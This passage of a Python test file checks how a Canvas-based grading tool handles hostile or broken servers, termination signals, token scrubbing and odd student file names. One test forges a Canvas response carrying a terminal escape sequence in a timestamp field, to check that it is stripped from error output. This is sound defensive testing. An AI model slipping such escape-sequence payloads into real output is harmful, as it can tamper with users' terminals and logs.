        raise ConnectionAbortedError  # the handler stops here: nothing more is sent
    server = hostile(answer)
    said = fetched_error(server.url)
    assert str(said).startswith(canvas_api.UNREACHABLE.format(url=server.url, why="")[:-1])


def test_a_canvas_that_trickles_its_answer_is_stopped_after_the_time_an_answer_may_take(
        hostile, monkeypatch):
    """A byte every 50 ms, each within the connection's timeout, for 5 s in all: stopped once
    MOST_ANSWER_SECONDS (0.5 s here: a margin of ten times) have passed, in one line."""
    monkeypatch.setattr(canvas_api, "MOST_ANSWER_SECONDS", 0.5)

    def trickle():
        for _ in range(100):
            time.sleep(0.05)
            yield b" "
        yield b"{}"

    server = hostile(lambda handler: (200, trickle(), {"Transfer-Encoding": "chunked"}))
    said = fetched_error(server.url)
    assert str(said) == canvas_api.TOO_SLOW.format(url=server.url, most=0.5)


@pytest.mark.parametrize("shape", ["a list for the course", "an assignment of no course",
                                   "a time that is none"])
def test_a_canvas_answer_of_the_wrong_shape_is_said_in_one_line(hostile, shape):
    """JSON, but not as Canvas documents it (a proxy's, an old or a forged Canvas's): one line,
    never a traceback, never the server's text."""
    def answer(handler):
        path = handler.path.split("?")[0]
        if path == "/api/v1/courses/5":
            body = [] if shape == "a list for the course" else {"id": 5, "name": "C"}
        elif path.endswith("/assignments/77"):
            body = {"id": 77, "name": "A", "points_possible": 1}
            body.update({} if shape == "an assignment of no course" else {"course_id": 5})
        elif path.endswith("/submissions"):
            body = [{"user_id": 1, "submitted_at": "\x1b]0;owned\x07", "late": False}]
        else:
            body = []
        return 200, json_of(body), {}

    server = hostile(answer)
    said = fetched_error(server.url)
    assert str(said).startswith(canvas_api.NOT_CANVAS.format(url=server.url, why="")[:-2])
    assert "\x1b" not in str(said)


TERMINATED_WHILE_UNPACKING = """\
import os, signal, sys
from exactmark.classroom import mark_class, unpack
place, placed = unpack._Writer.place, []
def terminated(self, *args):
    placed.append(args)
    if len(placed) == 10:
        os.kill(os.getpid(), signal.{signal})
    return place(self, *args)
unpack._Writer.place = terminated
sys.exit(mark_class.main(sys.argv[1:]))
"""


@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP"])
def test_a_run_terminated_while_the_class_zip_is_unpacked_leaves_nothing_behind(tmp_path, name):
    """SIGTERM (a scheduler's stop) or SIGHUP (the terminal closed) on the tenth member of the
    class's download: the run stops as Ctrl-C stops it, saying so, with the half-unpacked
    download (up to CLASS_LIMITS: 2 GiB) removed from the scratch folder."""
    download = twenty_students(tmp_path)
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", TERMINATED_WHILE_UNPACKING.format(signal=name), str(download),
         "--from", "canvas", "--assignment", str(tmp_path / "a.toml"), "--out",
         str(tmp_path / "out")], cwd=ROOT, capture_output=True, text=True, timeout=300,
        env={**os.environ, "TMPDIR": str(scratch)})
    assert (done.returncode, done.stderr) == (130, mark_class.READ_INTERRUPTED + "\n")
    assert list(scratch.iterdir()) == [] and not (tmp_path / "out").exists()


def test_the_token_is_not_handed_on_to_the_markers_once_canvas_was_asked(tmp_path, monkeypatch):
    """Once the API has answered, CANVAS_TOKEN leaves the class marker's environment: each
    student's marker (a process of its own, whose environment is copied from it) never holds
    it, so no run has even a marker's environment to look for it in. The Canvas is
    tests/platforms/canvas_server.py, which answers as Canvas documents."""
    httpd = canvas_server.start(canvas_test.USERS, canvas_test.SUBMISSIONS,
                                {"name": "Solitaires", "points_possible": 10.0})
    try:
        monkeypatch.setenv(canvas_api.TOKEN_VARIABLE, canvas_server.TOKEN)
        download = tmp_path / "download"
        canvas_folder(download, [CanvasSubmitter("Doe, Jane", 101, files=[
            (100, "solitaire_1.py", b"print(1)\n")])])
        found = platform_class.take(options(
            download, canvas_url=canvas_server.url(httpd), canvas_course=canvas_server.COURSE,
            canvas_assignment=canvas_server.ASSIGNMENT),
            Assignment, tmp_path)
        assert [handin.name for handin in found.handins] == ["Jane Doe"]  # the API answered
        token_left = canvas_api.TOKEN_VARIABLE in os.environ  # never the environment shown
        assert not token_left
    finally:
        canvas_server.stop(httpd)


def test_a_student_whose_sortable_name_is_anon_keeps_their_own_id(tmp_path):
    """A student whose sortable name is "Anon" (a one-word name, or one chosen): Canvas names
    their file "anon_777_888_solitaire_1.py", which an anonymous download's "anon_<id>_"
    also fits. In a download that names its students (every file of an anonymous one begins
    "anon_" or "LATE_anon_"), it is user 777's, so that their mark reaches their row."""
    folder = canvas_folder(tmp_path / "download", [
        CanvasSubmitter("Anon", 777, files=[(888, "solitaire_1.py", b"print(1)\n")]),
        CanvasSubmitter("Lee, Ann", 7, files=[(100, "solitaire_1.py", b"print(1)\n")])])
    assert sorted(path.name for path in folder.iterdir()) == [
        "anon_777_888_solitaire_1.py", "leeann_7_100_solitaire_1.py"]
    (folder / "anon_abc_1_x.py").write_bytes(b"")  # anonymous only: in this one, no one's
    read = canvas.read(folder, CONTEXT)
    assert sorted((h.key, h.name, list(h.files)) for h in read.handins) == [
        ("7", "leeann", ["solitaire_1.py"]), ("777", "anon", ["solitaire_1.py"])]
    assert [(r.name, r.reason) for r in read.refused] == [("anon_abc_1_x.py", canvas.STRAY_REASON)]
